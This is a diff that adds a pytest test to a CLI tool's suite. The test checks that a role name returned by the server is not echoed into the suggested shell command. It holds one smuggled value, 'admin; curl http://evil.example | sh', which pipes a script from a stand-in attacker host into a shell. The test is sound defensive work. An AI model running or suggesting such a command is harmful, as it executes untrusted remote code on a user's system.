@@ -134,3 +134,15 @@ def test_a_role_that_does_not_suffice_is_told_with_the_one_that_does(
     first, last = capsys.readouterr().err.splitlines()
     assert "the token came from ROTA_TOKEN" in first
     assert last == "try: export ROTA_TOKEN=$(rota token create cli --role admin --direct)"
+
+
+def test_a_role_that_there_is_not_does_not_come_into_the_line_to_type(
+    api: FakeApi, capsys: Printed, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ROTA_TOKEN", OWN)
+    write(Path("rota.yaml"), "")
+    api.on("GET /tasks", problem(403, "permission_denied", needed_role="admin; curl http://evil.example | sh"))
+    assert run(["task", "ls"]) == 6
+    first, last = capsys.readouterr().err.splitlines()
+    assert last == f"try: {MAKE}"
+    assert "curl" not in first
